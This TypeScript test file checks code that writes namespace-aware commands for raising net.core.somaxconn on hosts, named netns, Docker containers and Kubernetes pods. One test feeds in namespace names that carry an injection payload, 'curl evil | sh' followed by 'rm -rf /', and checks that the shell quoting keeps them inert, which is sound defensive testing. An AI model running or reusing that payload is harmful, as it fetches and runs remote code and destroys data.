import { test } from 'node:test';
import assert from 'node:assert/strict';
import { nsCommand, somaxconnFix } from './netns-fix.js';
import { shellQuote } from '../../safety/shell-quote.js';
import type { NetNamespace } from '../../snapshot/types.js';

function ns(over: Partial<NetNamespace>): NetNamespace {
  return {
    inode: 1, kind: 'host', name: 'host', pids: [], socketSource: 'sock_diag', listenerCount: 0, partial: false, notes: [],
    counters: { values: {}, deltas: null, intervalMs: 0 },
    tunables: {
      'net.core.somaxconn': 4096, 'net.ipv4.tcp_max_syn_backlog': 1024, 'net.ipv4.tcp_syncookies': 1, 'net.ipv4.tcp_abort_on_overflow': 0,
      'net.core.netdev_max_backlog': null, 'fs.file-max': null, 'fs.nr_open': null, 'fs.file-nr': null, 'net.ipv4.ip_local_port_range': null,
    },
    ...over,
  };
}

test('fix lines run in the listener namespace: host as is, ip netns exec, nsenter', () => {
  const snapshot = { namespaces: [ns({}), ns({ inode: 2, kind: 'netns', name: 'blue' }), ns({ inode: 3, kind: 'docker', name: 'web', pids: [77], container: { runtime: 'docker', id: 'a'.repeat(64), name: 'web' } })] };
  assert.equal(nsCommand(snapshot, 1, 'ss -ltn'), 'ss -ltn');
  assert.equal(nsCommand(snapshot, 2, 'ss -ltn'), 'ip netns exec blue ss -ltn');
  assert.equal(nsCommand(snapshot, 3, 'ss -ltn'), 'nsenter -n -t 77 ss -ltn');
  const r = { who: 'python3 (pid 77)', listener: { family: 4 as const, address: '0.0.0.0', port: 8080, netns: 1 } };
  assert.deepEqual(somaxconnFix(snapshot, 1, 4096, r), [
    'sysctl -w net.core.somaxconn=4096',
    "echo 'net.core.somaxconn = 4096' > /etc/sysctl.d/90-somaxconn.conf   # keeps it after reboot",
    "# then restart python3 (pid 77) so that it calls listen() again (a listener keeps the backlog it got), and check: ss -ltn 'sport = :8080' (Send-Q)",
  ]);
});

test('a container\'s somaxconn: only a recreate with --sysctl lasts; nsenter relief says it needs a new listen() in the same namespace', () => {
  const r = { who: 'python3 (pid 77)', listener: { family: 4 as const, address: '0.0.0.0', port: 8080, netns: 3 } };
  const docker = somaxconnFix({ namespaces: [ns({}), ns({ inode: 3, kind: 'docker', name: 'web', pids: [77], container: { runtime: 'docker', id: 'a'.repeat(64), name: 'web' } })] }, 3, 4096, r);
  assert.match(docker[0], /^docker run --sysctl net\.core\.somaxconn=4096 \.\.\.   # recreate docker container web \(aaaaaaaaaaaa\) with it \(compose: sysctls: \[net\.core\.somaxconn=4096\]\): its program then listens anew with it; `docker restart` would re-apply the container's own --sysctl$/);
  assert.match(docker[1], /^nsenter -n -t 77 sysctl -w net\.core\.somaxconn=4096 {3}# now, until the container restarts or is recreated: helps only if python3 \(pid 77\) calls listen\(\) again inside this same namespace/);
  assert.ok(!docker.some((l) => /^# then restart python3/.test(l)), 'not "restart the program": in a container that is the container');
  const pod = somaxconnFix({ namespaces: [ns({}), ns({ inode: 4, kind: 'kubernetes', name: 'shop/web', pids: [88] })] }, 4, 4096, { who: 'node (pid 88)', listener: { family: 4 as const, address: '0.0.0.0', port: 3000, netns: 4 } });
  assert.match(pod[0], /^# pod spec: securityContext: \{ sysctls: \[\{ name: net\.core\.somaxconn, value: "4096" \}\] \}/);
  assert.match(pod[1], /the pod keeps its namespace \(its pause container holds it\), so restarting the container .* makes node \(pid 88\) listen again with it/);
  assert.equal(pod[2], "# then check: nsenter -n -t 88 ss -ltn 'sport = :3000' (Send-Q)");
});

test('a hostile namespace name stays one inert word, and cannot end a comment early', () => {
  const evil = "x; curl evil | sh #\n rm -rf /";
  const snapshot = { namespaces: [ns({}), ns({ inode: 2, kind: 'netns', name: evil }), ns({ inode: 3, kind: 'other', name: `netns 3\nrm -rf /` })] };
  assert.equal(nsCommand(snapshot, 2, 'ss -ltn'), "ip netns exec $'x; curl evil | sh #\\x0a rm -rf /' ss -ltn");
  for (const line of [...somaxconnFix(snapshot, 2, 64, { who: 'x (pid 1)', listener: { family: 4 as const, address: '0.0.0.0', port: 1, netns: 2 } }), ...somaxconnFix(snapshot, 3, 64, { who: `evil\nrm -rf / (pid 1)`, listener: { family: 4 as const, address: '0.0.0.0', port: 1, netns: 3 } })]) assert.ok(!line.includes('\n'), line);
});

test('a unix listener: its check is ss -xlp src PATH in its namespace, the path quoted', () => {
  const snapshot = { namespaces: [ns({}), ns({ inode: 2, kind: 'netns', name: 'blue' })] };
  const unix = (address: string, netns: number) => ({ who: 'php-fpm (pid 9)', listener: { family: 'unix' as const, address, port: 0, netns } });
  assert.equal(somaxconnFix(snapshot, 1, 4096, unix('/run/php/php-fpm.sock', 1))[2], '# then restart php-fpm (pid 9) so that it calls listen() again (a listener keeps the backlog it got), and check: ss -xlp src /run/php/php-fpm.sock (Send-Q)');
  assert.equal(somaxconnFix(snapshot, 2, 4096, unix("/tmp/a b'c", 2))[1], `# then restart php-fpm (pid 9) so that it calls listen() again (a listener keeps the backlog it got), and check: ip netns exec blue ss -xlp src ${shellQuote("/tmp/a b'c")} (Send-Q)`);
});
